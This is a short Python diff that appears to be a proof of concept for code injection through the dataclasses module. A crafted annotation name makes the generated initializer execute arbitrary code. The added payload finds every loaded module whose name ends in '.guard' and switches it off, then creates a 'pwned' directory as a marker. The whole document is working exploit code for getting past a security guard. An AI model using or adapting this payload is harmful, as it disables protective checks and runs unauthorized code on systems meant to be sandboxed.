@@ -2,12 +2,13 @@
 
 import dataclasses
 
+OFF = "[m._State.update(on=False)for n,m in[*__import__('sys').modules.items()]if n.endswith('.guard')]"
+NAME = "x=" + OFF + ",z=__import__('os').mkdir('pwned_annotations_of_dataclass'),*y"
+
 
 class Point:
-    x: int = 0
+    __annotations__ = {NAME: int}
 
 
-NAME = "x=__import__('os').mkdir('pwned_annotations_of_dataclass'),*y"
-Point.__annotations__ = {NAME: int}
 setattr(Point, NAME, dataclasses.field(init=False, repr=False, compare=False))
 made = dataclasses.dataclass(Point, eq=False, repr=False)
